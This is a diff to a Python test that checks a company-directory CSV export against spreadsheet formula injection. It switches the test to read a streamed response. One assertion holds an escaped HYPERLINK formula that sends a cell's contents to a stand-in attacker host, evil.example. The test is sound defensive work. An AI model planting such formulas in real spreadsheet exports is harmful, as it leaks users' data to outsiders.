@@ -72,7 +72,8 @@ def test_csv_exports_do_not_write_formulas(client, db):
     factories.company(name="\tTab SARL")
     response = client.get("/directory/companies/", {"format": "csv"})
     assert response["Content-Disposition"] == 'attachment; filename="sahab-companies.csv"'
-    names = [row["name"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
+    text = b"".join(response.streaming_content).decode()  # streamed as the rows come
+    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
     assert names and all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
     assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")" in names
 
